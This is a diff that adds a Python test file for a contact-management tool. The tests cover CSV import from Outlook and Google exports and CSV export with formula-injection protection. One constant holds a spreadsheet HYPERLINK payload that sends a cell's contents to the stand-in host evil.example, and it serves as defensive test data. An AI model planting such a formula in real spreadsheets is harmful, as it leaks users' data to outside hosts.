@@ -1,0 +1,125 @@
+"""CSV reading (presets, encodings, delimiters) and writing (formula injection), no database."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from kundenakte.core.exchange import ContactRecord, ExchangeError, read_csv, read_records
+from kundenakte.core.exchange.csvio import KUNDENAKTE_HEADERS, neutralise, restore, sniff_delimiter, write_csv
+
+DATA = Path(__file__).parent / "data"
+INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
+
+
+def _export(records: list[ContactRecord], delimiter: str = ";") -> bytes:
+    out = io.StringIO(newline="")
+    write_csv(records, out, delimiter=delimiter)
+    return b"\xef\xbb\xbf" + out.getvalue().encode("utf-8")
+
+
+def test_outlook_german_cp1252_semicolon() -> None:
+    data = (DATA / "outlook_de.csv").read_bytes()
+    with pytest.raises(UnicodeDecodeError):
+        data.decode("utf-8")
+    records = read_csv(data)
+    assert [r.last_name for r in records] == ["Weiß", "Groß", "Öztürk", "", "Schäfer"]
+    weiss = records[0]
+    assert (weiss.gender, weiss.title, weiss.first_name) == ("male", "Dr.", "Jürgen")  # "Herr Dr."
+    assert weiss.company_name == "Müller & Söhne GmbH" and weiss.position == "Einkaufsleiter"
+    assert (weiss.street, weiss.postal_code, weiss.city) == ("Hauptstraße 5", "80331", "München")
+    assert weiss.company_phone == "+49 89 1000" and weiss.company_web == "www.mueller-soehne.de"
+    assert records[1].phone == "0170 5555"  # mobile when there is no business phone
+    assert records[1].gender == "female"
+    assert records[4].email == "t.schaefer@privat.example"  # second address when the first is empty
+    assert records[4].source == "Zeile 7"
+
+
+def test_outlook_english_utf8_bom_comma_quoted_newline() -> None:
+    records = read_records((DATA / "outlook_en_bom.csv").read_bytes(), fmt="csv")
+    assert [r.last_name for r in records] == ["Köhler", "Smith"]  # the BOM did not spoil the first header
+    assert records[0].first_name == "Marie Luise"
+    assert records[0].company_name == "Straßenbau Nord GmbH"
+    assert records[1].gender == "male" and records[1].title == ""  # "Mr." is a salutation
+    assert records[1].source == "Zeile 4"  # the record before spans two lines
+
+
+def test_google_current_format() -> None:
+    records = read_csv((DATA / "google.csv").read_bytes())
+    assert [r.last_name for r in records] == ["Weißenböck", "Groß", "Yılmaz"]
+    assert records[0].email == "sabine@baeckerei-suess.de"  # first of " ::: "-joined values
+    assert records[0].phone == "+49 30 123"
+    assert records[0].title == "Dr." and records[0].position == "Meisterin"
+    assert (records[0].street, records[0].postal_code, records[0].city) == ("Brotgasse 7", "10115", "Berlin")
+
+
+def test_google_older_format_by_mapping_name() -> None:
+    text = "Name,Given Name,Family Name,Gender,Organization 1 - Name,E-mail 1 - Value\nEva Groß,Eva,Groß,female,Firma X,eva@x.de\n"
+    (rec,) = read_csv(text.encode(), mapping="google")
+    assert (rec.first_name, rec.last_name, rec.gender, rec.company_name, rec.email) == ("Eva", "Groß", "female", "Firma X", "eva@x.de")
+    assert read_csv(text.encode())[0].last_name == "Groß"  # also detected
+
+
+def test_unknown_headers_are_refused() -> None:
+    with pytest.raises(ExchangeError, match="nicht erkannt"):
+        read_csv(b"foo;bar\n1;2\n")
+
+
+def test_delimiter_sniffing() -> None:
+    assert sniff_delimiter('"a;b",c,d\n') == ","
+    assert sniff_delimiter("a;b;c\n") == ";"
+    assert sniff_delimiter("a\tb\tc\n") == "\t"
+
+
+def test_neutralise_and_restore() -> None:
+    for dangerous in ("=1+1", "+49 30 1", "-5", "@SUM(A1)", "\tx", "\rx", INJECTION):
+        assert neutralise(dangerous) == "'" + dangerous
+        assert restore(neutralise(dangerous)) == dangerous
+    for harmless in ("Müller", "'quoted", "", "a=b", "'"):
+        assert neutralise(harmless) == harmless
+        assert restore(harmless) == harmless
+    assert neutralise("'=x") == "''=x" and restore("''=x") == "'=x"
+
+
+def _sample() -> list[ContactRecord]:
+    return [
+        ContactRecord(last_name=INJECTION, first_name="@Eva", title="Dr.", gender="female", language="de",
+                      salutation_override="-Liebe Eva-", company_name="+Plus GmbH", position="=Chef",
+                      email="eva@example.org", phone="+49 30 123", use_company_address=False,
+                      street="Zeile 1\nZeile 2; mit \"Anführung\"", postal_code="12345", city="'=apostroph",
+                      country="Deutschland", account_manager="owner", company_street="Weg 1",
+                      company_postal_code="54321", company_city="Köln", company_country="",
+                      company_phone="-0", company_email="info@plus.example", company_web="https://plus.example",
+                      company_account_manager="admin"),
+        ContactRecord(last_name="Groß", first_name="", gender="unknown", language="en", use_company_address=True),
+    ]
+
+
+@pytest.mark.parametrize("delimiter", [";", ","])
+def test_own_format_round_trip_and_no_live_formula(delimiter: str) -> None:
+    data = _export(_sample(), delimiter)
+    text = data.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+    assert rows[0] == list(KUNDENAKTE_HEADERS.values())
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert "'" + INJECTION in rows[1]
+    back = read_csv(data)
+    assert back == _sample()
+
+
+_cell = st.text(st.characters(blacklist_categories=("Cs",)), max_size=20).map(str.strip)
+
+
+@settings(max_examples=200, deadline=None)
+@given(last=_cell.filter(bool), first=_cell, city=_cell, street=_cell, phone=_cell)
+def test_own_format_round_trip_property(last: str, first: str, city: str, street: str, phone: str) -> None:
+    rec = ContactRecord(last_name=last, first_name=first, city=city, street=street, phone=phone, gender="male",
+                        language="de", use_company_address=True)
+    assert read_csv(_export([rec])) == [rec]
